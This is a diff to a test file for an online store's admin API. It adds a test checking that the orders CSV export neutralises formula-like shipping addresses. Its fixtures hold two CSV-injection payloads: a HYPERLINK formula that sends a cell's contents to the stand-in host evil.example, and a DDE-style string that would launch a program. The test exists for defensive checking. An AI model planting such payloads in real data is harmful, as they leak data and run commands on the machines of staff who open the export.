@@ -1,10 +1,12 @@
 /**
  * The admin API over orders, returns, refunds, customers and the dashboard (docs/admin.md):
  * each role allowed and refused on each route, order filters and search, the store's steps
- * with their audit entries, restocking a return, and a blocked customer.
+ * with their audit entries, restocking a return, a blocked customer, and the orders export
+ * writing a shopper's formula-like address as text (docs/admin.md "CSV files").
  */
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { ADMIN_MESSAGES, AUTH_MESSAGES, type AdminRole, type Order } from '@vastra/contracts';
 import { and, eq } from 'drizzle-orm';
 import { stockMovements, variants } from '../../db/schema';
@@ -155,6 +157,22 @@ describe('orders', () => {
     assert.equal(ship.before.status, 'packed');
     assert.equal(ship.after.shipment?.awb, 'DLV1234567890');
     assert.equal(entries.filter((e) => e.action === 'order.step').length, 3, 'refused steps are not recorded');
+  });
+
+  it('exports a shopper’s formula-like address as text, never a formula (OWASP CSV injection)', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&B2,"Invoice")';
+    const city = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const placed = await order(1, { shippingAddress: { ...DELHI_ADDRESS, firstName: name, lastName: '-Rao', city } });
+    const res = await asStaff(ctx.app, team.support, 'GET', `/admin/api/orders/export?q=${placed.orderNumber}`);
+    assert.equal(res.statusCode, 200, res.body);
+    const [header, row, ...more] = parse(res.body) as string[][];
+    assert.equal(more.length, 0);
+    const cell = (column: string) => row![header!.indexOf(column)];
+    assert.equal(cell('customerName'), `'${name} -Rao`);
+    assert.equal(cell('city'), `'${city}`);
+    assert.equal(cell('orderNumber'), placed.orderNumber);
+    assert.equal(cell('total'), placed.totalAmount.toFixed(2), 'an amount is left as it is');
+    for (const value of row!) assert.doesNotMatch(value, /^[=+@\t\r-]/, 'no cell a spreadsheet would run');
   });
 
   it('shows the order with its customer and internal notes, which the shopper never sees', async () => {
